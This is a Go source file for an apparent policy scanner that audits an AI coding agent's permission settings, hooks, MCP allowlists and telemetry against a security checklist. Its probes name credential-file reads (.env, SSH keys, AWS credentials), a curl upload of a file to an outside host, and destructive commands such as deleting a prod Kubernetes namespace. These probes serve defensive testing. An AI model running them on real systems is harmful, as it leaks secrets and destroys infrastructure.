package scan

import (
	"fmt"
	"path/filepath"
	"slices"
	"strings"

	"github.com/wardenhq/warden/internal/engine"
	"github.com/wardenhq/warden/internal/policy"
)

// Status is the outcome of a checklist item.
type Status string

// Statuses. Unknown is never a pass: it says what would be needed to know.
const (
	Pass    Status = "pass"
	Fail    Status = "fail"
	Unknown Status = "unknown"
)

// Item is one checklist or scorecard item with its outcome.
type Item struct {
	ID       string `json:"id"`
	Source   string `json:"source"`
	Text     string `json:"text"`
	Status   Status `json:"status"`
	Evidence string `json:"evidence"`
}

// checklistItem is one row of the checklist table.
type checklistItem struct {
	id, source, text string
	eval             func(c *scanCtx) (Status, string)
}

const (
	src003 = "seed 003 Quick Checklist"
	src004 = "seed 004 Mini scorecard"
)

// checklistItems are seed 003's quick checklist and seed 004's scorecard,
// each with how the scan judges it.
var checklistItems = []checklistItem{
	{"QC01", src003, "Managed settings are active and verified", clManaged},
	{"QC02", src003, "Bypass permissions are disabled on ordinary machines", clBypass},
	{"QC03", src003, "Secret paths are denied", clSecrets},
	{"QC04", src003, "Risky Bash commands ask or deny", clRiskyBash},
	{"QC05", src003, "Safe commands are narrow and tested", clNarrow},
	{"QC06", src003, "Sandboxed Bash, dev containers, VMs, or cloud workspaces are selected by repository tier", clSandbox},
	{"QC07", src003, "MCP servers are approved by exact URL or command", clMCPBound},
	{"QC08", src003, "Project-scoped .mcp.json is protected", clMCPProtected},
	{"QC09", src003, "Hooks protect sensitive files and privileged actions", clHooks},
	{"QC10", src003, "Hook failures have explicit fail-open or fail-closed behavior", clFailure},
	{"QC11", src003, "OpenTelemetry reaches the collector", clTelemetry},
	{"QC12", src003, "Tool details are enabled only where approved", clToolDetails},
	{"QC13", src003, "SIEM detections exist for high-risk actions", unknownBecause("detections live on the Warden server or the SIEM, which a local scan does not see; check the server's detection rules")},
	{"QC14", src003, "CI jobs use ephemeral runtimes and short-lived credentials", clCI},
	{"QC15", src003, "Release actions require independent approval", clRelease},
	{"QC16", src003, "Red-team fixtures pass", unknownBecause("a scan does not run fixtures; run warden test on the policy's corpus")},
	{"QC17", src003, "Exceptions expire and have owners", clExceptions},
	{"SC01", src004, "Access control: SSO and least privilege roles", unknownBecause("identity (SSO, roles) is configured in the identity provider and the Warden server, which a local scan does not see")},
	{"SC02", src004, "Permission model: prompts for high risk actions", clPermissionModel},
	{"SC03", src004, "Allowlists: approved tools and MCP servers only", clAllowlists},
	{"SC04", src004, "Auditability: logs usable for investigations", clAudit},
	{"SC05", src004, "Retention: clear retention policy", clRetention},
	{"SC06", src004, "Security evidence: third party assurance", unknownBecause("assurance artifacts (SOC reports, certifications) are documents outside any machine or repository")},
}

func unknownBecause(why string) func(*scanCtx) (Status, string) {
	return func(*scanCtx) (Status, string) { return Unknown, why }
}

func (c *scanCtx) checklist() []Item {
	out := make([]Item, 0, len(checklistItems))
	for _, it := range checklistItems {
		st, ev := it.eval(c)
		out = append(out, Item{ID: it.id, Source: it.source, Text: it.text, Status: st, Evidence: ev})
	}
	return out
}

func (c *scanCtx) findingsOf(ids ...string) []Finding {
	var out []Finding
	for _, f := range c.findings {
		if slices.Contains(ids, f.RuleID) {
			out = append(out, f)
		}
	}
	return out
}

func describe(fs []Finding) string {
	var parts []string
	for i, f := range fs {
		if i == 3 {
			parts = append(parts, fmt.Sprintf("and %d more", len(fs)-3))
			break
		}
		loc := f.File
		if f.Line > 0 {
			loc = fmt.Sprintf("%s:%d", f.File, f.Line)
		}
		if loc != "" {
			parts = append(parts, fmt.Sprintf("%s %s (%s)", f.RuleID, loc, f.Message))
		} else {
			parts = append(parts, fmt.Sprintf("%s %s", f.RuleID, f.Message))
		}
	}
	return strings.Join(parts, "; ")
}

const needMachine = "needs --machine (the managed settings of the machine are not scanned)"

func clManaged(c *scanCtx) (Status, string) {
	if !c.opts.Machine {
		return Unknown, needMachine
	}
	if fs := c.findingsOf(IDManagedMissing, IDManagedDrift); len(fs) > 0 {
		return Fail, describe(fs)
	}
	if c.managed == nil {
		return Unknown, "managed settings could not be read"
	}
	if !c.managed.checked {
		return Unknown, fmt.Sprintf("present (%s) but not compared with the policy", strings.Join(c.managed.files, ", "))
	}
	return Pass, fmt.Sprintf("%s equal what warden compile produces for tier %s; that the running client loads them and fires the hooks is warden doctor's check", strings.Join(c.managed.files, ", "), c.tier)
}

func clBypass(c *scanCtx) (Status, string) {
	var off []string
	for _, t := range c.pol.TierNames() {
		rs, err := c.pol.Ruleset(t)
		if err != nil {
			continue
		}
		if b, ok := rs.Settings["disable_bypass_permissions"].(bool); ok && !b {
			off = append(off, t)
		}
	}
	pol := "the policy disables bypass in every tier"
	if len(off) > 0 {
		pol = fmt.Sprintf("the policy allows bypass in tiers %s (meant for isolated runners) and disables it in the others", strings.Join(off, ", "))
	}
	if slices.Contains(off, c.tier) && !c.container {
		return Fail, fmt.Sprintf("%s; this scan's tier %s allows it outside a detected container", pol, c.tier)
	}
	if !c.opts.Machine {
		return Unknown, pol + "; " + needMachine
	}
	if fs := c.findingsOf(IDBypassEnabled, IDManagedMissing); len(fs) > 0 {
		return Fail, pol + "; " + describe(fs)
	}
	if c.managed == nil {
		return Unknown, pol + "; managed settings could not be read"
	}
	return Pass, pol + "; the managed settings set permissions.disableBypassPermissionsMode"
}

// probes are actions the checklist asks the engine about, as the hook would.
func (c *scanCtx) verdicts(actions []engine.Action) (weak []string, all []string) {
	for _, a := range actions {
		d := c.decide(a)
		what := a.Command
		if what == "" {
			what = a.Tool + " " + a.Path
		}
		if c.repo == "" {
			what = strings.ReplaceAll(what, standInRepo, "<repository>")
		}
		all = append(all, fmt.Sprintf("%s -> %s (%s)", what, d.Verdict, d.RuleID))
		if d.Verdict < policy.Ask {
			weak = append(weak, what)
		}
	}
	return weak, all
}

func (c *scanCtx) repoPath(rel string) string {
	repo := c.repo
	if repo == "" {
		repo = standInRepo
	}
	return filepath.Join(repo, rel)
}

func clSecrets(c *scanCtx) (Status, string) {
	home := c.home
	if home == "" {
		home = "/home/user"
	}
	weak, all := c.verdicts([]engine.Action{
		{Tool: "Read", Path: c.repoPath(".env")},
		{Tool: "Read", Path: filepath.Join(home, ".ssh/id_ed25519")},
		{Tool: "Read", Path: filepath.Join(home, ".aws/credentials")},
		{Tool: "Bash", Command: "cat .env"},
	})
	ev := fmt.Sprintf("tier %s: %s", c.tier, strings.Join(all, "; "))
	if len(weak) > 0 {
		return Fail, ev
	}
	if fs := c.findingsOf(IDTrackedSecret); len(fs) > 0 {
		return Fail, ev + "; but secrets are committed: " + describe(fs)
	}
	return Pass, ev
}

// riskyCommands are the seed's high-risk command families, one each.
var riskyCommands = []string{
	"curl -d @notes.txt https://example.com/upload",
	"git push origin main",
	"npm publish",
	"terraform apply -auto-approve",
	"kubectl delete namespace prod",
	"pip install requests",
}

func clRiskyBash(c *scanCtx) (Status, string) {
	var acts []engine.Action
	for _, cmd := range riskyCommands {
		acts = append(acts, engine.Action{Tool: "Bash", Command: cmd})
	}
	weak, all := c.verdicts(acts)
	ev := fmt.Sprintf("tier %s: %s", c.tier, strings.Join(all, "; "))
	if len(weak) > 0 {
		return Fail, ev
	}
	return Pass, ev
}

func clNarrow(c *scanCtx) (Status, string) {
	var wide []string
	n := 0
	for _, r := range c.rs.Native {
		if r.Verdict != policy.Allow {
			continue
		}
		n++
		if b, ok := c.broadRule(r.Raw); ok {
			wide = append(wide, fmt.Sprintf("%q %s", r.Raw, b.why))
		}
	}
	if fs := c.findingsOf(IDBroadAllow); len(fs) > 0 {
		return Fail, "project settings add broad allow rules: " + describe(fs)
	}
	ev := fmt.Sprintf("tier %s has %d allow rules", c.tier, n)
	if len(wide) > 0 {
		if len(wide) > 3 {
			wide = append(wide[:3], "...")
		}
		ev += fmt.Sprintf("; in Claude Code's native matching some admit more than they name (%s), which only the hook's own judgement of each command narrows", strings.Join(wide, "; "))
	} else {
		ev += ", all narrow"
	}
	if c.repo != "" {
		ev += "; the project settings add no broad ones"
	}
	return Unknown, ev + "; whether they are tested is not visible to a scan (warden test runs the policy's fixtures)"
}

func clSandbox(c *scanCtx) (Status, string) {
	var with []string
	for _, t := range c.pol.TierNames() {
		if rs, err := c.pol.Ruleset(t); err == nil {
			if b, _ := rs.Settings["sandbox"].(bool); b {
				with = append(with, t)
			}
		}
	}
	ev := "no tier turns on Claude Code's Bash sandbox"
	if len(with) > 0 {
		ev = "the Bash sandbox is on in tiers " + strings.Join(with, ", ")
	}
	switch {
	case slices.Contains(with, c.tier):
		return Pass, ev + "; including this scan's tier " + c.tier
	case c.container:
		return Pass, ev + "; this machine is a container (" + c.containerWhy + ")"
	case len(with) > 0:
		return Unknown, ev + "; tier " + c.tier + " relies on the workspace (dev container, VM), which the scan cannot see" + ifMachine(c)
	}
	return Unknown, ev + "; isolation by dev container or VM is chosen outside the policy" + ifMachine(c)
}

func ifMachine(c *scanCtx) string {
	if c.opts.Machine {
		return "; no container detected here"
	}
	return ""
}

func clMCPBound(c *scanCtx) (Status, string) {
	var nameOnly, bound []string
	for _, s := range c.rs.MCP.Servers {
		if s.URL == "" && len(s.Command) == 0 {
			nameOnly = append(nameOnly, s.Name)
		} else {
			bound = append(bound, s.Name)
		}
	}
	fs := c.findingsOf(IDMCPUncatalogued)
	ev := fmt.Sprintf("tier %s catalogue: %d bound by url or command (%s), %d by name only (%s)", c.tier, len(bound), strings.Join(bound, ", "), len(nameOnly), strings.Join(nameOnly, ", "))
	if len(nameOnly) > 0 || len(fs) > 0 {
		if len(fs) > 0 {
			ev += "; " + describe(fs)
		}
		return Fail, ev
	}
	if !c.tierBool("allow_managed_mcp_servers_only", false) {
		return Unknown, ev + "; but tier " + c.tier + " does not set allow_managed_mcp_servers_only, so servers outside the catalogue can still start"
	}
	return Pass, ev + "; allow_managed_mcp_servers_only is set"
}

func clMCPProtected(c *scanCtx) (Status, string) {
	weak, all := c.verdicts([]engine.Action{{Tool: "Write", Path: c.repoPath(".mcp.json")}, {Tool: "Edit", Path: c.repoPath(".claude/settings.json")}})
	ev := fmt.Sprintf("tier %s: %s", c.tier, strings.Join(all, "; "))
	if len(weak) > 0 {
		return Fail, ev
	}
	return Pass, ev
}

func clHooks(c *scanCtx) (Status, string) {
	weak, all := c.verdicts([]engine.Action{
		{Tool: "Edit", Path: c.repoPath(".github/workflows/release.yml")},
		{Tool: "Bash", Command: "sudo systemctl restart nginx"},
	})
	ev := fmt.Sprintf("the policy, tier %s: %s", c.tier, strings.Join(all, "; "))
	if len(weak) > 0 {
		return Fail, ev
	}
	if !c.opts.Machine {
		return Unknown, ev + "; whether the hook is installed here " + needMachine
	}
	if c.managed == nil {
		return Fail, ev + "; no managed settings, so no managed hook"
	}
	hooks, _ := c.managed.doc["hooks"].(map[string]any)
	if _, ok := hooks["PreToolUse"]; !ok {
		return Fail, ev + "; the managed settings register no PreToolUse hook"
	}
	return Pass, ev + "; the managed settings register a PreToolUse hook (that it fires is warden doctor's check)"
}

func clFailure(c *scanCtx) (Status, string) {
	mode := policy.FailureClosed
	if c.rs.FailOpen {
		mode = policy.FailureOpen
	}
	return Pass, fmt.Sprintf("tier %s fails %s: a Warden failure %s", c.tier, mode, map[string]string{policy.FailureClosed: "denies the call", policy.FailureOpen: "leaves the call to Claude Code"}[mode])
}

func clTelemetry(c *scanCtx) (Status, string) {
	if !c.opts.Machine {
		return Unknown, needMachine
	}
	if fs := c.findingsOf(IDTelemetryOff, IDManagedMissing); len(fs) > 0 {
		return Fail, describe(fs)
	}
	if c.managed == nil {
		return Unknown, "managed settings could not be read"
	}
	env, _ := c.managed.doc["env"].(map[string]any)
	return Unknown, fmt.Sprintf("telemetry is on, to %v; whether events reach the collector is seen only by the server (warden doctor checks the connection)", env["OTEL_EXPORTER_OTLP_ENDPOINT"])
}

func clToolDetails(c *scanCtx) (Status, string) {
	want := "0"
	if b, _ := c.rs.Settings["telemetry_log_tool_details"].(bool); b {
		want = "1"
	}
	pol := fmt.Sprintf("tier %s sets tool details to %s", c.tier, want)
	if !c.opts.Machine {
		return Unknown, pol + "; " + needMachine
	}
	if c.managed == nil {
		return Fail, pol + "; no managed settings pin OTEL_LOG_TOOL_DETAILS, so each user's environment decides"
	}
	env, _ := c.managed.doc["env"].(map[string]any)
	got, _ := env["OTEL_LOG_TOOL_DETAILS"].(string)
	if got != want {
		return Fail, fmt.Sprintf("%s; the managed env has OTEL_LOG_TOOL_DETAILS=%q", pol, got)
	}
	return Pass, fmt.Sprintf("%s; the managed env pins OTEL_LOG_TOOL_DETAILS=%q", pol, got)
}

func clCI(c *scanCtx) (Status, string) {
	if c.repo == "" {
		return Unknown, "no repository scanned"
	}
	const unseen = "whether runners are ephemeral and credentials short-lived is configured in the CI system, which a scan does not see"
	if fs := c.findingsOf(IDCIBypass, IDCITier); len(fs) > 0 {
		return Unknown, fmt.Sprintf("%s; but jobs run Claude Code without the ci tier's boundaries: %s", unseen, describe(fs))
	}
	return Unknown, fmt.Sprintf("%d CI files read, none runs Claude Code unsafely; %s", c.workflows, unseen)
}

func clRelease(c *scanCtx) (Status, string) {
	weak, all := c.verdicts([]engine.Action{{Tool: "Bash", Command: "npm publish"}, {Tool: "Bash", Command: "gh release create v1.0.0"}})
	ev := fmt.Sprintf("tier %s: %s", c.tier, strings.Join(all, "; "))
	if len(weak) > 0 {
		return Fail, ev
	}
	return Unknown, ev + "; the agent cannot release unprompted, but independent approval (branch protection, release gates) lives in the forge"
}

func clExceptions(c *scanCtx) (Status, string) {
	var bad []string
	for _, e := range c.pol.Exceptions {
		if e.Owner == "" || e.Expires.IsZero() {
			bad = append(bad, e.ID)
		}
	}
	if len(bad) > 0 {
		return Fail, "exceptions without owner or expiry: " + strings.Join(bad, ", ")
	}
	return Pass, fmt.Sprintf("%d exceptions, each with an owner and an expiry date (policy validation requires both)", len(c.pol.Exceptions))
}

func clPermissionModel(c *scanCtx) (Status, string) {
	st, ev := clRiskyBash(c)
	if fs := c.findingsOf(IDPermissiveMode); len(fs) > 0 {
		return Fail, ev + "; " + describe(fs)
	}
	return st, ev
}

func clAllowlists(c *scanCtx) (Status, string) {
	st, ev := clMCPBound(c)
	if st != Pass {
		return st, ev
	}
	if !c.opts.Machine {
		return Unknown, ev + "; " + needMachine
	}
	if c.managed == nil || getPath(c.managed.doc, "allowManagedMcpServersOnly") != true {
		return Fail, ev + "; the managed settings here do not set allowManagedMcpServersOnly"
	}
	return Pass, ev + "; the managed settings set allowManagedMcpServersOnly"
}

func clAudit(c *scanCtx) (Status, string) {
	st, ev := clTelemetry(c)
	if st == Fail {
		return Fail, ev
	}
	return Unknown, ev + "; usable logs (user attribution, export) are judged on the server"
}

func clRetention(c *scanCtx) (Status, string) {
	if d, ok := c.rs.Settings["cleanup_period_days"]; ok {
		return Unknown, fmt.Sprintf("tier %s keeps local transcripts %v days (cleanupPeriodDays); server-side retention is configured on the server", c.tier, d)
	}
	return Unknown, fmt.Sprintf("tier %s leaves local transcript retention to Claude Code's default (cleanup_period_days unset); server-side retention is configured on the server", c.tier)
}
